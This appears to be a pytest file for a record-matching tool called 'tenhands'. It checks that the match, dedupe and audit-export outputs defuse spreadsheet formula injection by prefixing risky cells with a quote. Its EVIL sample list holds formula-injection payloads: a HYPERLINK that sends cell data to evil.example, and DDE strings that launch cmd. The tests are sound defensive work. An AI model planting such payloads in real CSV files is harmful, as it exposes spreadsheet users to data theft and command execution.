"""CSV files a spreadsheet opens run no formula from the data: ``tenhands match``,
``tenhands dedupe`` and the audit export put a ``'`` before a cell that starts with
``= + - @``, a tab or a line break (OWASP's advice); plain numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from signin_helpers import bearer
from typer.testing import CliRunner

from tenhands.app import create_app
from tenhands.cli.main import app as cli
from tenhands.files.csv_cells import FORMULA_STARTS
from tenhands.graph.model import AuditAction, AuditEvent, UserRole
from tenhands.graph.store import GraphStore
from tenhands.settings import Settings

runner = CliRunner()

EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+32 470 12 34 56",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
COLUMNS = ["id", "given_names", "surname", "birth_date", "city"]


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def read(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def dangerous(cell: str) -> bool:
    """Whether a spreadsheet could read ``cell`` as a formula."""
    try:
        float(cell)
        return False  # a number
    except ValueError:
        return cell.startswith(FORMULA_STARTS)


def people_file(path: Path, prefix: str) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(COLUMNS)
        for n, evil in enumerate(EVIL):
            born = f"19{70 + n}-03-{n + 1:02d}"
            writer.writerow([f"{evil}{prefix}{n}", "Marie", "Peeters", born, "Gent"])
            writer.writerow(
                [f"{prefix}ok{n}", "Jan", f"Janssens{n}", f"19{60 + n}-01-02", "Brugge"]
            )
    return path


def test_match_writes_no_formula(tmp_path: Path) -> None:
    left = people_file(tmp_path / "l.csv", "L")
    right = people_file(tmp_path / "r.csv", "R")
    out = tmp_path / "pairs.csv"
    result = runner.invoke(
        cli, ["match", str(left), str(right), "--out", str(out), "--threshold", "0"]
    )
    assert result.exit_code == 0, result.output
    rows = read(out)
    found = [c for row in rows for c in row]
    assert not [c for c in found if dangerous(c)]
    ids = {row[0] for row in rows[1:]} | {row[1] for row in rows[1:]}
    assert {f"'{evil}L{n}" for n, evil in enumerate(EVIL)} <= ids
    # negative weights (fields that disagree) are written as numbers, without a quote
    assert [c for c in found if c.startswith("-") and float(c) < 0]


def test_dedupe_writes_no_formula(tmp_path: Path) -> None:
    out = tmp_path / "clusters.csv"
    result = runner.invoke(
        cli, ["dedupe", str(people_file(tmp_path / "f.csv", "F")), "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    rows = read(out)
    assert not [c for row in rows for c in row if dangerous(c)]
    assert {f"'{evil}F{n}" for n, evil in enumerate(EVIL)} <= {row[0] for row in rows}


@pytest.mark.parametrize("field", ["actor", "detail", "entity"])
def test_the_audit_export_writes_no_formula(store: GraphStore, field: str) -> None:
    for n, evil in enumerate(EVIL):
        values = {"actor": "cli:beheer", "entity": "person", "detail": "route", field: evil}
        store.append_audit(AuditEvent(action=AuditAction.read, entity_id=f"p{n}", **values))  # type: ignore[arg-type]
    app = create_app(Settings(store=store.describe()), store=store)
    with TestClient(app, headers=bearer(store, "beheer", UserRole.admin)) as client:
        r = client.get("/audit/export", params={"format": "csv"})
        jsonl = client.get("/audit/export", params={"format": "jsonl"})
    assert r.status_code == 200
    rows = cells(r.text)
    column = rows[0].index(field)
    assert not [c for row in rows for c in row if dangerous(c)]
    stored = {getattr(e, field) for e in store.list_audit(action=AuditAction.read)}
    assert stored == {evil.strip() for evil in EVIL}  # as the model keeps them
    assert {f"'{value}" for value in stored} <= {row[column] for row in rows[1:]}
    # JSON Lines is no spreadsheet: its values stay as stored
    assert stored <= {line.get(field) for line in map(_json, jsonl.text.splitlines())}


def _json(line: str) -> dict[str, str]:
    import json

    value: dict[str, str] = json.loads(line)
    return value
